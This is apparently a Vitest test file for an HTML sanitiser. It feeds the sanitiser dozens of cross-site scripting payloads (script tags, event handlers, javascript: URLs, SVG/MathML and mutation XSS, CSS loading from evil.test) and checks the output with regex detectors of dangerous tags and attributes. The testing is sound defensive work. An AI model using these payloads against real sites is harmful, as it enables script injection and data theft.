import { expect, test } from 'vitest';
import { cleanHtml } from './clean-html.server.ts';

const scope = {
  site: { id: 'RivageEU', alias: 'eu' },
  locale: { id: 'fr-FR' },
  url: { site: 'path', locale: 'path', showDefaults: false } as const,
  isDefaultSite: true,
  isDefaultLocale: false,
};
const clean = (html: string) => cleanHtml(html, scope);

const TAGS =
  /^(script|iframe|frame|object|embed|applet|base|meta|link|form|input|math|foreignobject|animate|set|template|noscript|xmp|plaintext|portal|textarea)$/i;
const NAMES = /^(on|style$|srcdoc$|formaction$|xlink:|action$|autofocus$)/i;
const ADDRESSES = /^(href|src|srcset|poster)$/;
const RUNS = /(java|vb|live)script:|data:(?!image\/)/i;

/** Normalises a URL as browsers do: resolves entities, removes control characters and whitespace. */
const address = (text: string) =>
  text
    .replace(/&#x([0-9a-f]+);?/gi, (_all, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(/&#(\d+);?/g, (_all, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll('&colon;', ':')
    .replace(/\p{Cc}|\s/gu, '');

/** Returns the elements, attributes and URLs in sanitised markup that could run or load code. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [, css = ''] of html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)) {
    // Inside <svg> browsers parse the content of <style> as markup.
    if (css.includes('<')) found.push(css);
  }
  for (const [tag, name = '', attributes = ''] of html.matchAll(
    /<\/?([\w:-]+)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)[^>]*>/g,
  )) {
    if (TAGS.test(name)) found.push(tag);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/\s([^\s=>"]+)(?:="([^"]*)")?/g)) {
      if (NAMES.test(attribute)) found.push(tag);
      if (ADDRESSES.test(attribute) && RUNS.test(address(value))) found.push(tag);
    }
  }
  return found;
}

test.each([
  // script elements and their spellings
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<script>alert(1)//<</script>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`<img onerror=alert(1)>`">',
  '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<video onloadstart=alert(1) src=x></video>',
  '<a href="/x" onfocus=alert(1) autofocus>a</a>',
  // URLs that run code
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  // images and srcset
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, /a.jpg 2x">',
  '<picture><source srcset="javascript:alert(1)"><img src="/a.jpg"></picture>',
  '<picture><source srcset="data:text/html,x 1x"><img src="/a.jpg" onload=alert(1)></picture>',
  '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="//evil.test"></script></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
  '<svg><use xlink:href="//evil.test#a"></use></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"></animate><a><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to="alert(1)"></set></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><path d="M0 0"/></a></svg>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">a</maction></math>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><style><img src=x onerror=alert(1)></style></math>',
  // nesting that changes when parsed a second time (mutation XSS)
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><style/><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<img src="a" alt="><script>alert(1)</script>">',
  // frames, loaders, and elements that change the document's URL
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="//evil.test">',
  '<base href="//evil.test"><link rel=stylesheet href="//evil.test">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  // style attributes
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="position:fixed;inset:0">a</p>',
])('[CONT-02] %s contains nothing that runs or loads code, or redirects', (html) => {
  const once = clean(html);
  expect(dangers(once)).toEqual([]);
  // Sanitising again must not reveal new markup.
  expect(dangers(clean(once))).toEqual([]);
});

test.each([
  '<style>@import url(//evil.test/a.css);</style>',
  '<style>@IMPORT "//evil.test/a.css";</style>',
  '<style>input[value^=a]{background:url(//evil.test/?a)}</style>',
  '<style>p{background-image:image-set("//evil.test/x" 1x)}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.test/x)}</style>',
  '<style>p{background:u\\72l(//evil.test)}</style>',
  '<style>p{color:red}</style ><p>a</p><style>@\\69mport "//evil.test"</style>',
])('[CONT-02] a style sheet loads nothing: %s', (html) => {
  expect(clean(html)).not.toMatch(/evil\.test/);
});

test('[CONT-02] keeps style sheets that only style the page', () => {
  expect(clean('<style>.edit h2 { color: #12284c; margin: 0 auto }</style>')).toContain('color: #12284c');
});

test('[CONT-02] keeps srcset of images, and data URLs of images', () => {
  const html =
    '<picture><source srcset="/a.webp 1x, /b.webp 2x" type="image/webp"><img src="/a.jpg" alt="a"></picture>';
  expect(clean(html)).toMatch(/srcset="\/a\.webp 1x, ?\/b\.webp 2x"/);
  expect(clean('<img src="data:image/png;base64,AAAA" alt="">')).toContain('data:image/png');
});
